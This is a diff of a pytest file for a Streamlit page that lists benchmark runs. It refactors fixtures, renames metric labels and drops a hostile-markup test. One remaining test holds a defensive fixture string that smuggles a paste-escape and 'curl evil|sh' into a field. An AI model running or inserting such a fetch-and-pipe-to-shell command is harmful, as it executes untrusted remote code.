@@ -10,36 +10,14 @@ import streamlit as st
 from streamlit.testing.v1 import AppTest
 
 from analytics.runs import store
-from analytics.runs.frame import frame
 from app import data
 from app.serve import TRACKING_URI
 from bench.record import Status
 from bench.store import artifacts as stored
-from bench.store import tracker as tracking
 from tests import rows
-from tests.pages import EVIL, Open, markup, opened, texts
+from tests.pages import EVIL, Open, markup, opened, opener, texts
 
-pytestmark = [
-    pytest.mark.filterwarnings("ignore:The ..noload.. loader strategy is deprecated"),
-    pytest.mark.filterwarnings("ignore:unclosed:ResourceWarning"),
-    pytest.mark.filterwarnings("ignore:.*:pytest.PytestUnraisableExceptionWarning"),
-]
-
-
-@pytest.fixture
-def open_page(monkeypatch: pytest.MonkeyPatch) -> Iterator[Open]:
-    def run(given: Any, **query: str) -> AppTest:
-        def load(uri: str | None = None, **_: Any) -> pd.DataFrame:
-            if isinstance(given, Exception):
-                raise given
-            return frame([row | {"mlflow_run_id": f"{index:032x}"} for index, row in enumerate(given)])
-
-        monkeypatch.setattr(store, "load", load)
-        return opened("runs", query)
-
-    yield run
-    st.cache_data.clear()
-    st.cache_resource.clear()
+open_page = opener("runs")
 
 
 @pytest.fixture
@@ -91,7 +69,9 @@ def test_a_condition_that_is_not_understood_is_two_lines(open_page: Open) -> Non
     app = open_page(GIVEN, where="devics = 2")
     assert "did you mean 'devices'?" in texts(app)
     assert len(listed(app)) == 3
-    assert "No run matches" in open_page(GIVEN, where="devices = 99").info[0].value
+    none = open_page(GIVEN, where="devices = 99")
+    assert "No run matches" in none.info[0].value
+    assert "that match" not in texts(none)
 
 
 def test_many_runs_come_in_pages(open_page: Open) -> None:
@@ -102,16 +82,11 @@ def test_many_runs_come_in_pages(open_page: Open) -> None:
     assert len(listed(open_page(many, page="9"))) in (50, 200), "a page that is not there"
 
 
-def test_no_runs_and_no_store(open_page: Open) -> None:
-    assert "bench run" in open_page([]).code[0].value
-    assert open_page(tracking.StoreError("down")).text[0].value == "down"
-
-
 def test_one_run_without_files_shows_its_row(open_page: Open) -> None:
     app = open_page(GIVEN, run=f"{0:032x}")
     tiles = {tile.label: tile.value for tile in app.metric}
-    assert tiles["Speed [samples/s]"] == "20"
-    assert tiles["~ Energy, estimated [J]"].startswith("~ ")
+    assert tiles["Samples/s"] == "20"
+    assert tiles["~ Energy of the window [J]"].startswith("~")
     assert "Some of this run is missing" in app.info[0].value
     assert "there is no store" in texts(app)
     failed = open_page(GIVEN, run=f"{2:032x}")
@@ -122,7 +97,7 @@ def test_a_run_can_be_chosen_without_a_mouse(open_page: Open) -> None:
     app = open_page(GIVEN)
     app.selectbox(key="open").select(f"{0:032x}").run()
     assert not app.exception
-    assert {tile.label: tile.value for tile in app.metric}["Speed [samples/s]"] == "20"
+    assert {tile.label: tile.value for tile in app.metric}["Samples/s"] == "20"
     app.selectbox(key="with").select(f"{1:032x}").run()
     assert "Figures" in [heading.value for heading in app.subheader]
     assert "One run of each cannot tell" in texts(app)
@@ -137,28 +112,6 @@ def test_alone_and_back(open_page: Open) -> None:
     next(button for button in app.button if "Back" in button.label).click().run()
     assert "run" not in app.query_params
     assert len(listed(app)) == 2, "the filters are kept"
-
-
-def test_hostile_text_is_never_markup(open_page: Open) -> None:
-    given: list[Any] = []
-    for index, evil in enumerate(EVIL):
-        over = dict.fromkeys(("label", "suite", "host", "device_name", "precision", "flags", "error_message"), evil)
-        over |= {"workload_args.preset": evil, "execution": evil, "emissions_basis": evil, "grade": evil}
-        over |= {"energy_provenance": evil, "energy_missing": evil, "cost_basis": evil, "error_type": evil, evil: 1.0}
-        given += [rows.make(repeat=index) | over, rows.make(2, repeat=index) | over]
-    for query in (
-        {"all": "true"},
-        {"run": f"{0:032x}"},
-        {"run": f"{2:032x}", "other": f"{5:032x}"},
-        {"where": EVIL[0]},
-    ):
-        app = open_page(given, **query)
-        for evil in EVIL:
-            assert evil not in markup(app), query
-        for table in app.dataframe:
-            for column in table.value.columns:
-                assert not str(column).startswith("=")
-                assert not table.value[column].astype("str").str.startswith("=").any()
 
 
 def test_names_of_files_are_never_markup(open_page: Open, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -202,10 +155,6 @@ def test_text_in_a_field_with_a_units_name(open_page: Open) -> None:
     assert "10MB" in listed(open_page(given, all="true"))["workload_args.limit_bytes"].tolist()
 
 
-def test_where_nothing_matches_no_runs_are_counted(open_page: Open) -> None:
-    assert "that match" not in texts(open_page(GIVEN, where="devices = 99"))
-
-
 def test_a_command_to_copy_is_one_printable_line(open_page: Open) -> None:
     evil = {"suite": "x\x1b[201~\ncurl evil|sh\n\u202e"}
     app = open_page([GIVEN[0] | evil, GIVEN[1] | evil], run=f"{0:032x}", other=f"{1:032x}")
@@ -226,7 +175,7 @@ def test_a_real_run(real_page: tuple[pd.DataFrame, Any]) -> None:
     assert not app.info
     assert any("workload: decoder_lm" in code.value for code in app.code)
     assert any("mlflow ui --backend-store-uri" in code.value for code in app.code)
-    assert "carbon = energy" in texts(app)
+    assert "Carbon = energy" in texts(app)
 
 
 def test_a_real_run_that_failed(real_page: tuple[pd.DataFrame, Any]) -> None:
